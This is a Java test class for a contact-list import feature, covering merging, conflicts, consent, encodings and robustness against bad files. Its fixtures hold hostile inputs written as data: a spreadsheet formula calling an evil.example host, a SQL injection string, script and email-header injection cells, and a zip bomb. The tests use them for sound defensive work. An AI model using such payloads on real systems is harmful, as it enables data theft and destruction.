package dev.sopflow.contact;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.sopflow.contact.ImportStatus.State;
import dev.sopflow.house.SopflowTest;
import dev.sopflow.house.TestTime;
import dev.sopflow.journal.JournalEntries;
import dev.sopflow.web.Page;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.concurrent.CompletableFuture;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.dhatim.fastexcel.Workbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;

@SopflowTest
class ListImportTest {

  @Autowired ContactImports imports;
  @Autowired ImportReport report;
  @Autowired Contacts contacts;
  @Autowired Consents consents;
  @Autowired JournalEntries journal;
  @Autowired JdbcClient db;

  private ImportStatus bringIn(String text) {
    return bringIn(text.getBytes(StandardCharsets.UTF_8), Set.of());
  }

  private ImportStatus bringIn(byte[] bytes, Set<Channel> consent) {
    try {
      var file = Files.createTempFile("list", ".bin");
      Files.write(file, bytes);
      var list = new ContactImports.List(file, "list.csv", "US", consent, "a form", "ops");
      var done = imports.find(imports.runNow(list)).orElseThrow();
      assertThat(file).doesNotExist();
      return done;
    } catch (IOException e) {
      throw new java.io.UncheckedIOException(e);
    }
  }

  private String reportOf(ImportStatus done) {
    var out = new ByteArrayOutputStream();
    report.write(done.id(), out);
    return out.toString(StandardCharsets.UTF_8);
  }

  private List<Contact> everyone() {
    return contacts.search("", new Page.Asked(0, 200)).items();
  }

  @Test
  void twoPeopleWhoMerelyShareACompanyStayTwo() {
    var done =
        bringIn("name,email,company\nAnn,ann@a.example,Contoso\nBob,bob@a.example,contoso\n");
    assertThat(done.counts().created()).isEqualTo(2);
    assertThat(db.sql("select count(*) from company").query(Integer.class).single()).isEqualTo(1);
  }

  @Test
  void whatIsKnownStaysAndWhatIsEmptyIsFilled() {
    bringIn("name,email,title\nAnn,ann@a.example,Buyer\n");
    var done = bringIn("name,email,title,city,phone\nAnnie,ANN@a.example,CEO,Oslo,2025550100\n");
    assertThat(done.counts().merged()).isEqualTo(1);
    assertThat(everyone())
        .singleElement()
        .satisfies(
            ann -> {
              assertThat(ann.fullName()).isEqualTo("Ann");
              assertThat(ann.positionTitle()).isEqualTo("Buyer");
              assertThat(ann.city()).isEqualTo("Oslo");
              assertThat(ann.phone()).isEqualTo("+12025550100");
            });
  }

  @Test
  void conflictingIdentitiesAreReportedAndNotMerged() {
    bringIn("name,email,phone\nAnn,ann@a.example,2025550100\nBob,bob@a.example,2025550101\n");
    var done = bringIn("name,email,phone\nAnn,ann@a.example,2025550101\n");
    assertThat(done.counts().rejected()).isEqualTo(1);
    assertThat(reportOf(done))
        .contains("2,rejected,", "different known contacts", "+12025550101, ann@a.example");
    assertThat(everyone()).extracting(Contact::phone).contains("+12025550100", "+12025550101");
  }

  @Test
  void anotherCrmIdIsAConflict() {
    bringIn("name,email,CRM id\nAnn,ann@a.example,A-1\n");
    assertThat(bringIn("name,email,CRM id\nAnn,ann@a.example,A-2\n").counts().rejected()).isOne();
  }

  @Test
  void aSharedNumberStaysWithWhomItWasFirst() {
    var list = "name,email,phone\nAnn,ann@a.example,2025550100\nBob,bob@a.example,2025550100\n";
    var done = bringIn(list);
    assertThat(done.counts().created()).isEqualTo(2);
    assertThat(done.counts().warned()).isOne();
    assertThat(reportOf(done))
        .contains("3,warned,", "+12025550100 belongs to the known contact 'Ann'");
    var again = bringIn(list);
    assertThat(again.counts().unchanged()).isEqualTo(2);
    assertThat(again.counts().warned()).isOne();
  }

  @Test
  void aNumberAloneDoesNotMakeTwoNamesOnePerson() {
    bringIn("name,email,phone\nAnn Lee,ann@a.example,2025550100\n");
    var done = bringIn("name,phone,city\nBob Kim,2025550100,Oslo\n");
    assertThat(done.counts().rejected()).isOne();
    assertThat(reportOf(done)).contains("2,rejected,", "+12025550100 belongs", "'Ann Lee'");
    assertThat(everyone()).singleElement().satisfies(ann -> assertThat(ann.city()).isNull());
  }

  @ParameterizedTest
  @CsvSource({"Ann", "LEE Ann", "Lee", "Ann Lee-Kim", "Annie", "''"})
  void aShorterOrLongerFormOfTheNameIsTheSamePerson(String name) {
    bringIn("name,email,phone\nAnn Lee,ann@a.example,2025550100\nAnn,a@a.example,2025550102\n");
    var number = name.equals("Annie") ? "2025550102" : "2025550100";
    var done = bringIn("name,phone,city\n%s,%s,Oslo\n".formatted(name, number));
    assertThat(done.counts().merged()).isOne();
    assertThat(done.counts().warned()).isZero();
  }

  @Test
  void oneAddressUnderAnotherNameIsTakenWithAWarningThatSaysWhoseItIs() {
    bringIn("name,email,phone\nAnn Lee,ann@a.example,2025550100\n");
    var list = "name,email,city\nBob Kim,ann@a.example,Oslo\n";
    var done = bringIn(list);
    assertThat(done.counts().merged()).isOne();
    assertThat(reportOf(done)).contains("2,warned,", "known contact 'Ann Lee'", "another name");
    assertThat(everyone()).singleElement().matches(ann -> ann.fullName().equals("Ann Lee"));
    assertThat(bringIn(list).counts().unchanged()).isOne();
  }

  @Test
  void whoBringsAllThatIsKnownAndANumberMoreUnderAnotherNameIsNotMerged() {
    bringIn("name,email,phone\nAnn Lee,ann@a.example,2025550100\n");
    var done = bringIn("name,email,mobile,phone\nBob Kim,ann@a.example,2025550100,2025550109\n");
    assertThat(done.counts().rejected()).isOne();
    assertThat(everyone()).hasSize(1);
  }

  @Test
  void whoBringsNothingNewUnderAnotherNameIsOnlyWarnedOf() {
    bringIn("name,email,mobile,phone\nAnn Lee,ann@a.example,2025550100,2025550109\n");
    var done = bringIn("name,email,phone\nBob Kim,ann@a.example,2025550100\n");
    assertThat(done.counts().rejected()).isZero();
    assertThat(done.counts().warned()).isOne();
  }

  @ParameterizedTest
  @CsvSource({
    "name,email,phone,ann@a.example,2025550101",
    "name,CRM id,email,A-1,bob@b.example",
    "name,CRM id,phone,A-1,2025550101"
  })
  void anotherNameAndAnotherAddressOfAKindAreReportedAndNotMerged(
      String name, String known, String other, String knownValue, String otherValue) {
    bringIn("name,email,phone,CRM id\nAnn Lee,ann@a.example,2025550100,A-1\n");
    var header = String.join(",", name, known, other);
    var done = bringIn(header + "\nBob Kim," + knownValue + "," + otherValue + "\n");
    assertThat(done.counts().rejected()).isOne();
    assertThat(reportOf(done)).contains("2,rejected,", knownValue + " belongs", "'Ann Lee'");
    var mended = bringIn(header + "\nAnn Lee," + knownValue + "," + otherValue + "\n");
    assertThat(mended.counts().merged()).isOne();
  }

  @Test
  void oneNumberWithTwoAddressesOfTheSameNameIsOnePerson() {
    bringIn("name,email,phone\n王 芳,w@a.example,2025550100\n王芳,w@b.example,2025550100\n");
    assertThat(everyone()).singleElement();
    var id = everyone().get(0).id();
    assertThat(contacts.identitiesOf(id)).hasSize(3);
    assertThat(everyone().get(0).email()).isEqualTo("w@a.example");
  }

  @Test
  void yesAndNoAreNoWechatIds() {
    var done = bringIn("姓名,邮箱,微信\n王芳,w@a.example,是\n李娜,l@a.example,是\n");
    assertThat(done.counts().created()).isEqualTo(2);
    assertThat(everyone()).extracting(Contact::wecomId).containsOnlyNulls();
  }

  @Test
  void aCrmMayCountFromOneButNobodyIsNumberNone() {
    bringIn(
        "name,email,CRM id,WeChat\nAnn,a@a.example,1,1\nBob,b@a.example,0,0\nEve,e@a.example,无,-\n");
    assertThat(everyone()).extracting(Contact::crmId).containsOnly("1", null, null);
    assertThat(everyone()).extracting(Contact::wecomId).containsOnlyNulls();
  }

  @Test
  void unknownColumnsBecomeAttributesAndTagsAreTags() {
    bringIn("name,email,Watch minutes,tags\nAnn,ann@a.example,17,\"vip; key customer\"\n");
    var ann = everyone().get(0);
    assertThat(ann.attributes()).containsEntry("Watch minutes", "17");
    assertThat(ann.tags()).containsExactly("key customer", "vip");
  }

  @Test
  void placesAreUnderstoodByCodeAndByName() {
    bringIn("name,phone,country,language,time zone\n佐藤,090-1234-0000,日本,Japanese,Asia/Tokyo\n");
    var sato = everyone().get(0);
    assertThat(sato.phone()).isEqualTo("+819012340000");
    assertThat(sato.region()).isEqualTo("JP");
    assertThat(sato.language()).isEqualTo("ja");
    assertThat(sato.zone()).isEqualTo("Asia/Tokyo");
  }

  @Test
  void consentOfAListNeverLiftsARefusal() {
    var list = "name,email\nAnn,ann@a.example\nBob,bob@a.example\n".getBytes();
    bringIn(list, Set.of());
    var ann = contacts.search("ann", new Page.Asked(0, 1)).items().get(0).id();
    var bob = contacts.search("bob", new Page.Asked(0, 1)).items().get(0).id();
    consents.refuse(ann, null, "phone", "rep1");
    var done = bringIn(list, Set.of(Channel.EMAIL, Channel.SMS));
    assertThat(done.counts().merged()).isOne();
    assertThat(consents.of(ann)).noneMatch(Consents.Consent::granted);
    assertThat(consents.of(bob)).hasSize(2).allMatch(Consents.Consent::granted);
    assertThat(bringIn(list, Set.of(Channel.EMAIL)).counts().merged()).isZero();
  }

  @Test
  void aMendedReportCanBeUploadedAgain() {
    var first = bringIn("name,email,phone\n=HYPERLINK(1),x@,+1 (202) 555-0100\nBob,,\n");
    assertThat(first.counts().created()).isOne();
    var mended = reportOf(first).replace("x@", "ann@a.example");
    assertThat(mended).contains("'=HYPERLINK(1)", "'+1 (202) 555-0100").doesNotContain("{0}");
    var second = bringIn(mended);
    assertThat(second.counts().merged()).isOne();
    assertThat(everyone())
        .singleElement()
        .satisfies(c -> assertThat(c.fullName()).isEqualTo("=HYPERLINK(1)"))
        .satisfies(c -> assertThat(c.email()).isEqualTo("ann@a.example"))
        .satisfies(c -> assertThat(c.attributes()).isEmpty());
  }

  @Test
  void aSheetIsReadByItsContentAndItsFormulasAsSavedText() throws IOException {
    var out = new ByteArrayOutputStream();
    try (var book = new Workbook(out, "test", "1.0")) {
      var sheet = book.newWorksheet("list");
      sheet.value(0, 0, "姓名");
      sheet.value(0, 1, "手机");
      sheet.value(0, 2, "邮箱");
      sheet.value(1, 0, "王芳");
      sheet.value(1, 1, 12025550100L);
      sheet.formula(1, 2, "WEBSERVICE(\"http://evil.example\")");
      sheet.value(3, 0, "李娜");
      sheet.value(3, 2, "l@a.example");
    }
    var done = bringIn(out.toByteArray(), Set.of());
    assertThat(done.encoding()).isEqualTo("XLSX");
    assertThat(done.counts().created()).isEqualTo(2);
    assertThat(everyone()).extracting(Contact::phone).contains("+12025550100");
  }

  @Test
  void aSheetThatUnfoldsBeyondMeasureIsRefusedBeforeItFillsTheMemory() throws IOException {
    var out = new ByteArrayOutputStream();
    try (var zip = new ZipOutputStream(out)) {
      zip.putNextEntry(new ZipEntry("xl/workbook.xml"));
      zip.putNextEntry(new ZipEntry("xl/sharedStrings.xml"));
      var zeros = new byte[1_000_000];
      for (var megabyte = 0; megabyte <= 100; megabyte++) {
        zip.write(zeros);
      }
    }
    assertThat(out.size()).isLessThan(1_000_000);
    var done = bringIn(out.toByteArray(), Set.of());
    assertThat(done.state()).isEqualTo(State.FAILED);
    assertThat(done.message()).contains("too large");
  }

  @ParameterizedTest
  @CsvSource({"UTF-8", "GB18030", "windows-31j", "UTF-16"})
  void theEncodingIsFound(String charset) {
    var text = "氏名,メール,会社名\n佐藤 翔太,s@a.example,若松\n鈴木 愛,l@a.example,桜井化学\n".repeat(1);
    var done = bringIn(text.getBytes(Charset.forName(charset)), Set.of());
    assertThat(done.message()).isNull();
    assertThat(everyone()).extracting(Contact::fullName).contains("佐藤 翔太", "鈴木 愛");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "email;ann@a.example;bob@a.example| only one column",
        "name,city;Ann,Oslo| No column has an address",
        "Ann,Oslo;Bob,Rome| names no column that we know",
        "name,email,email;Ann,a@a.example,b@a.example| Columns B and C are both named 'email'",
        "name,email,e-mail;Ann,a@a.example,b@a.example| mean the same",
        "name,email| no rows below it",
        ",name;x,Ann| only one column ('')",
        "%PDF-1.7;| PDF file",
      })
  void aListThatCanNotBeReadIsRefusedAsAWhole(String text, String why) {
    var done = bringIn(text.replace(';', '\n'));
    assertThat(done.state()).isEqualTo(State.FAILED);
    assertThat(done.message()).contains(why.strip());
    assertThat(everyone()).isEmpty();
  }

  @Test
  void mixedEncodingsAreNamedByLine() throws IOException {
    var out = new ByteArrayOutputStream();
    out.write("姓名,邮箱\n王芳,w@a.example\n".getBytes(StandardCharsets.UTF_8));
    out.write("李娜,l@a.example\n".getBytes("GB18030"));
    var done = bringIn(out.toByteArray(), Set.of());
    assertThat(done.state()).isEqualTo(State.FAILED);
    assertThat(done.message()).contains("mixes encodings", "line 3");
  }

  @Test
  void aQuoteThatNeverClosesIsNamedByItsRowAndNothingIsTaken() {
    var rows = IntStream.range(0, 3000).mapToObj(i -> "P" + i + ",p" + i + "@a.example").toList();
    var done =
        bringIn("name,email\nAnn,a@a.example\n\"Bob,b@a.example\n" + String.join("\n", rows));
    assertThat(done.state()).isEqualTo(State.FAILED);
    assertThat(done.message()).contains("Row 3", "never closed");
    assertThat(everyone()).isEmpty();
  }

  @Test
  void garbageIsRefusedInPlainWords() {
    var seed = 20260302L;
    var random = new Random(seed);
    for (int i = 0; i < 60; i++) {
      var bytes = new byte[random.nextInt(1, i == 0 ? 20_000_000 : 5_000)];
      random.nextBytes(bytes);
      if (i % 3 == 1) {
        for (int b = 0; b < bytes.length; b++) {
          bytes[b] = bytes[b] == 0 ? (byte) '\n' : bytes[b];
        }
      }
      if (i % 3 == 2) {
        System.arraycopy("PK\3\4".getBytes(), 0, bytes, 0, Math.min(4, bytes.length));
      }
      var done = bringIn(bytes, Set.of());
      assertThat(done.state()).as("seed %d, file %d", seed, i).isEqualTo(State.FAILED);
      assertThat(done.message()).as("file %d", i).isNotBlank().doesNotContain("fault");
    }
  }

  @Test
  void strangeCellsAreDataAndNeverStopAnImport() {
    var seed = 4711L;
    var random = new Random(seed);
    var list = new StringBuilder("name,email,phone,company,tags,note,country,zone\n");
    for (int i = 0; i < 1500; i++) {
      list.append(
          IntStream.range(0, 8).mapToObj(c -> cell(random)).collect(Collectors.joining(",")));
      list.append('\n');
    }
    var done = bringIn(list.toString());
    assertThat(done.message()).as("seed %d", seed).isNull();
    var counts = done.counts();
    assertThat(counts.created() + counts.merged() + counts.unchanged() + counts.rejected())
        .isEqualTo(counts.rows());
    var again = bringIn(list.toString());
    assertThat(again.counts().created()).as("seed %d", seed).isZero();
    assertThat(again.counts().merged()).as("seed %d", seed).isZero();
  }

  private static String cell(Random random) {
    var kinds =
        List.of(
            "",
            "a" + random.nextInt(300) + "@a.example",
            "202555" + random.nextInt(1000, 1300),
            "=1+1",
            "<script>",
            "\u0001\u0007",
            "\uD83D\uDE00",
            "\uD83D",
            "王" + random.nextInt(20),
            "'; drop table contact; --",
            "x".repeat(random.nextInt(3000)),
            "\r\nBcc: x");
    return '"' + kinds.get(random.nextInt(kinds.size())).replace("\"", "\"\"") + '"';
  }

  @Test
  void twoImportsAtOnceMakeEachPersonOnce() {
    var rows =
        IntStream.range(0, 3000)
            .mapToObj(i -> "P%d,p%d@a.example,Company %d".formatted(i, i, i % 50))
            .toList();
    var forward = "name,email,company\n" + String.join("\n", rows);
    var backward =
        "name,email,company\n"
            + IntStream.range(0, 3000)
                .mapToObj(i -> rows.get(2999 - i))
                .collect(Collectors.joining("\n"));
    var one = CompletableFuture.supplyAsync(() -> bringIn(forward));
    var other = CompletableFuture.supplyAsync(() -> bringIn(backward));
    assertThat(List.of(one.join(), other.join())).allMatch(it -> it.state() == State.DONE);
    assertThat(one.join().counts().created() + other.join().counts().created()).isEqualTo(3000);
    assertThat(db.sql("select count(*) from contact").query(Integer.class).single())
        .isEqualTo(3000);
  }

  @Test
  void whatRanWhenTheHouseWentDownIsMarkedAndCanBeDoneAgain() {
    db.sql(
            """
            insert into contact_import (file_name, region, status, started_by, started_at)
            values ('half.csv', 'US', 'RUNNING', 'ops', current_timestamp)\
            """)
        .update();
    imports.interruptWhatRan();
    assertThat(imports.latest().get(0).state()).isEqualTo(State.INTERRUPTED);
    assertThat(imports.latest().get(0).message()).contains("again", "nothing doubles");
    assertThat(journal())
        .containsExactly(
            "The import of “half.csv” was interrupted by a restart: 0 created, 0 merged, 0 given back until then");
  }

  @Test
  void theOpsJournalTellsOfEveryImport() {
    bringIn("name,email\nAnn,ann@a.example\nAnn,ann@a.example\nBob,\n");
    bringIn("no list");
    assertThat(journal())
        .containsExactly(
            "“list.csv” could not be imported: it can't be read as a list",
            "Imported “list.csv”: 1 created, 1 merged, 1 given back");
  }

  private List<String> journal() {
    return journal.between(TestTime.START, TestTime.START.plusSeconds(1), null, 9).stream()
        .peek(entry -> assertThat(entry.actor()).isEqualTo("ops"))
        .map(JournalEntries.Entry::text)
        .toList();
  }

  @Test
  void anUnknownRegionIsRefusedAtOnce() {
    assertThatThrownBy(
            () -> imports.submit(new ContactImports.List(null, "x", "XX", Set.of(), null, "ops")))
        .hasMessageContaining("two letters");
  }

  @Test
  void peopleAreFoundByTheBeginningsOfWhatIsKnown() {
    bringIn(
        "name,email,phone,company\nMaya Lopez,maya@c.example,(202) 555-0100,Contoso\n"
            + "Ann_,ann@f.example,2025550101,Fabrikam\n");
    for (var words :
        List.of("may", "LOPEZ", "maya@c", "(202) 555-0100", "+1202555010", "2025550100", "conto")) {
      assertThat(contacts.search(words, new Page.Asked(0, 10)).items())
          .as(words)
          .extracting(Contact::fullName)
          .contains("Maya Lopez");
    }
    assertThat(contacts.search("_", new Page.Asked(0, 10)).total()).isZero();
    assertThat(contacts.search("%", new Page.Asked(0, 10)).total()).isZero();
  }
}
